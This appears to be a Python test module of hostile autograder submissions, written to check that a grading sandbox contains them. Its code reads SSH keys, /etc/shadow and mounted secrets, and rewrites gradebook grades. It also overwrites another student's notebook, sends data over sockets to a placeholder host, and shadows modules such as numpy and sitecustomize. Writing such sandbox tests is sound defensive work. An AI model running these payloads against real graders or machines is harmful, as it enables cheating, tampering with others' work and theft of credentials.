"""Reaching out of the process's own memory: stack, history, files, gradebook, other students, network."""

from __future__ import annotations

import textwrap

from hostile.case import Case, cheat, submission

# Every case of this module says what it got, on the screen and in its result: `STOLEN:` where it is a secret beyond
# doubt, `SEEN:` where it may be harmless (a process of the same sandbox); secrets are searched for in both. A file that
# is neither the course's nor holds a canary is somebody's own: its size is told, and nothing of what it says.
TAKE = """
    import glob
    import os
    import sys

    FOUND, CANARY = [], __CANARY__[::-1]


    def take(where, what, surely=False):
        text = str(what)[:3000]
        surely = surely or any(word in text for word in ("### BEGIN", "SQLite format 3", "secret.key"))
        FOUND.append(f"{'STOLEN' if surely else 'SEEN'}: {where}: {text}")
        if len(FOUND) < 200:
            print(FOUND[-1])


    def read(path):
        try:
            with open(path, "rb") as file:
                data = file.read(2**20)
        except OSError:
            return
        at = data.find(CANARY.encode())
        if path.startswith((__COURSE__, __CHECKOUT__)):
            take(path, data, True)
        elif at >= 0:
            take(path, data[max(0, at - 200) : at + 500], True)
        else:  # somebody's own: not to be shown around
            take(path, f"{len(data)} bytes could be read")


    def up():
        place, folders = os.getcwd(), []
        while place not in folders:
            folders.append(place)
            place = os.path.dirname(place)
        return folders
    """
RESULT = "'\\n'.join(FOUND)[:100_000] or 0"


def thief(name: str, exercise: str, what: str, inside: str, before: str = "", **more: object) -> Case:
    """Make a case that looks for something and returns what it found: zero there, and nothing may have leaked."""
    before = f"{textwrap.dedent(TAKE)}\n{before}"
    return cheat(name, exercise, what, inside, before=before, result=RESULT, secrets_looked_for=True, **more)  # type: ignore[arg-type]


def once(name: str, exercise: str, what: str, inside: str, **more: object) -> Case:
    """Make a case that looks around in its first call only: a check may call a function many times."""
    guard = f"if looked:\n    return {RESULT}\nlooked.append(True)\n"
    return thief(name, exercise, what, guard + textwrap.dedent(inside), "looked = []", **more)


STACK = """
    frame = sys._getframe()
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "reference", "fresh", "cases", "case", "wanted", "seed", "solution"):
                take(f"{frame.f_code.co_filename} {name}", value, True)
            for one in value if name == "cases" and value else ():
                if str(list(one.arguments.values())) == str([logits, targets, mask]):
                    return one.expected
        frame = frame.f_back
    """
HISTORY = """
    import gc

    own = get_ipython()
    for name, texts in (("In", In), ("_ih", _ih), ("history", [one[2] for one in own.history_manager.get_range()])):
        for text in texts:
            if "take(" not in text and any(word in text for word in ("HIDDEN", "fresh(", "autograder")):
                take(name, text, True)
    for name, value in list(globals().items()) + list(own.user_ns_hidden.items()):
        if name in ("reference", "expected", "fresh", "solution", "examiner"):
            take(name, value, True)
    for one in gc.get_objects():
        kind = type(one)
        if kind.__name__ == "Case" and hasattr(one, "arguments") and hasattr(one, "expected"):
            take("gc", one.expected, True)
            if list(one.arguments.values()) == [sentence, vocabulary]:
                return one.expected
        elif kind.__module__.startswith(("autograder", "nbgrader")):
            take("gc", kind)
    """
GRADEBOOK = """
    import sqlite3

    places = [__COURSE__, __CHECKOUT__, os.path.expanduser("~"), "/", "/srv", "/root", "/home", *up()]
    for place in places:
        for name in ("", "course/", "../", "*/", "*/course/"):
            for path in glob.glob(os.path.join(place, name + "gradebook.db")):
                read(path)
                try:
                    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as book:
                        take(path, book.execute("select * from grade limit 5").fetchall(), True)
                    if path.startswith(__COURSE__):
                        with sqlite3.connect(path, timeout=0.2) as book:
                            book.execute("update grade set manual_score = 1000, auto_score = 1000")
                            take(path, "changed every grade", True)
                except sqlite3.Error:
                    pass
    """
NEIGHBOUR = """
    paths = [os.path.join(__COURSE__, "submitted", __NEIGHBOUR__, "lab1_rnn", "lab1_rnn.ipynb")]
    paths += [os.path.join(place, __NEIGHBOUR__, "lab1_rnn", "lab1_rnn.ipynb") for place in up()]
    for path in paths:
        read(path)
        try:
            with open(path, "r+b") as file:
                file.write(b"{}")
                take(path, "written", True)
            os.rename(path, path + ".gone")
        except OSError:
            pass
    try:
        os.makedirs(os.path.join(__COURSE__, "submitted", "hostile-guest", "lab1_rnn"))
        take(__COURSE__, "a submission made up", True)
    except OSError:
        pass
    """
NETWORK = """
    import socket

    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, (__HOST__, __PORT__)),
        (socket.AF_INET, socket.SOCK_DGRAM, (__HOST__, __PORT__)),
        (socket.AF_UNIX, socket.SOCK_STREAM, __SOCKET__),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + __SOCKET__),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::1", __PORT__)),
        (getattr(socket, "AF_VSOCK", -1), socket.SOCK_STREAM, (2, __PORT__)),
    ):
        try:
            with socket.socket(family, kind) as line:
                line.settimeout(0.5)
                line.connect(address)
                line.sendall(b"STOLEN: " + repr(globals().get("In", ""))[:500].encode())
                if kind == socket.SOCK_STREAM:  # a datagram says nothing about whether it arrived
                    take(f"connected to {address}", family, True)
        except (OSError, TypeError, AttributeError):
            pass
    """
KNOWN = """
    for place in (__CHECKOUT__, *up()):
        for name in ("solutions/lab1_rnn/lab1_rnn.py", "solutions/lab1_rnn/lab1_rnn.ipynb", "nbgrader_config.py",
                     "autograder/references/lab1_rnn/__init__.py", "autograder/references/lab1_rnn/words.py",
                     ".git/HEAD",
                     "autograder/__init__.py", "course/secret.key", "tests/checks/mistakes/lab1_rnn/words.py"):
            read(os.path.join(place, name))
    for name in ("secret.key", "gradebook.db", "autograded", "feedback", "report"):
        read(os.path.join(__COURSE__, name))
    for path in ("~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.netrc", "~/.bash_history", "~/.jupyter/*", "~/.config/*/*",
                 "/etc/shadow", "/root/.bashrc", "/run/secrets/*", "/var/run/secrets/*/*/*"):
        for one in glob.glob(os.path.expanduser(path)):
            read(one)
    """
EVERYTHING = """
    import time

    until, seen = time.monotonic() + 3, 0
    for place, folders, files in os.walk("/", followlinks=False):
        folders[:] = [one for one in folders if one not in ("proc", "sys", "lib", "lib64", "usr", "site-packages")]
        for name in files:
            if name.endswith((".db", ".key", ".ipynb", ".pem", ".env")) or "secret" in name or "lab1_" in name:
                read(os.path.join(place, name))
            seen += 1
        if time.monotonic() > until:
            break
    """
REFERENCE = """
    for name in ("autograder", "autograder.references", "autograder.references.lab1_rnn", "nbgrader", "solutions"):
        try:
            take("imported", __import__(name, fromlist=["x"]).__file__)
        except Exception:
            pass
    for place in (__CHECKOUT__, *up()):
        sys.path.append(place)
    try:
        from autograder.references import lab1_rnn as reference
        take("reference", reference.__file__, True)
        right = reference.fresh("state_gradient_norms")
        take("fresh", right, True)
        for one in right:
            if np.shape(one.arguments["h"]) == h.shape and np.allclose(one.arguments["h"], h):
                return one.expected
    except Exception:
        pass
    """

CASES = (
    thief("walks_the_stack", "sequence_loss", "Walks the stack for what is expected, and returns it.", STACK),
    thief("reads_history", "encode", "Searches In, _ih, globals, the history and gc for the hidden tests.", HISTORY),
    once(
        "looks_for_gradebook",
        "embed",
        "Looks for gradebook.db up the tree and by known paths, to read and change it.",
        GRADEBOOK,
    ),
    once(
        "writes_to_neighbour", "loss_gradient", "Writes into another student's submission, and makes one up.", NEIGHBOUR
    ),
    once(
        "network",
        "next_word_pairs",
        "TCP, UDP, Unix, abstract and vm sockets to a listener on the host.",
        NETWORK,
        seconds=6,
    ),
    once("known_paths", "build_vocabulary", "Reads solution, references, key and history by their known paths.", KNOWN),
    once(
        "reads_everything",
        "pad_batch",
        "Walks the whole file system and reads whatever is named as a secret.",
        EVERYTHING,
        seconds=15,
    ),
    thief(
        "imports_the_reference",
        "state_gradient_norms",
        "Imports the grader's references and answers with them.",
        REFERENCE,
    ),
    Case(
        "ships_numpy",
        "M",
        "Ships numpy.py, sitecustomize.py and more beside the notebook: ignored, graded as ever.",
        submission(),
        files={
            "numpy.py": b"print('STOLEN: a numpy of our own')\nraise ImportError('shadowed')\n",
            "sitecustomize.py": b"print('STOLEN: sitecustomize ran')\nimport builtins\nbuiltins.abs = lambda x: 0\n",
            "usercustomize.py": b"print('STOLEN: usercustomize ran')\n",
            "keras/__init__.py": b"raise ImportError('shadowed')\n",
            "json.py": b"raise ImportError('shadowed')\n",
            "conftest.py": b"print('STOLEN: conftest ran')\n",
        },
    ),
    cheat(
        "ships_labkit",
        "embed",
        "Ships a labkit and an autograder whose checks say yes.",
        files={
            "labkit/__init__.py": b"",
            "labkit/checks/__init__.py": b"",
            "labkit/base/quiet.py": b"def load(*names): pass\n",
            "labkit/checks/lab1_rnn/__init__.py": b"def __getattr__(name):\n"
            b"    return lambda *a, **k: print('STOLEN: own checks')\n",
            "autograder/__init__.py": b"",
            "autograder/references/__init__.py": b"",
            "autograder/references/lab1_rnn/__init__.py": b"def fresh(name):\n"
            b"    print('STOLEN: own reference')\n    return []\n",
        },
    ),
    cheat(
        "ships_config",
        "encode",
        "Ships configuration for nbgrader, Jupyter and IPython beside the notebook.",
        files={
            "nbgrader_config.py": b"print('STOLEN: nbgrader config ran')\nc = get_config()\n"
            b"c.ClearSolutions.code_stub = {'python': 'passed'}\nc.Autograde.force = True\n",
            "jupyter_config.py": b"print('STOLEN: jupyter config ran')\n",
            "ipython_config.py": b"print('STOLEN: ipython config ran')\n",
            "pyproject.toml": b"[tool.autograder]\nisolation = 'none'\n",
            ".ipython/profile_default/startup/00.py": b"print('STOLEN: startup ran')\n",
            "kernels/python3/kernel.json": b'{"argv": ["sh", "-c", "echo STOLEN"], "display_name": "x", '
            b'"language": "python"}',
            "gradebook.db": b"SQLite format 3\0",
            "lab1_rnn.html": b"<script>window.HOSTILE = 1</script>",
        },
    ),
)
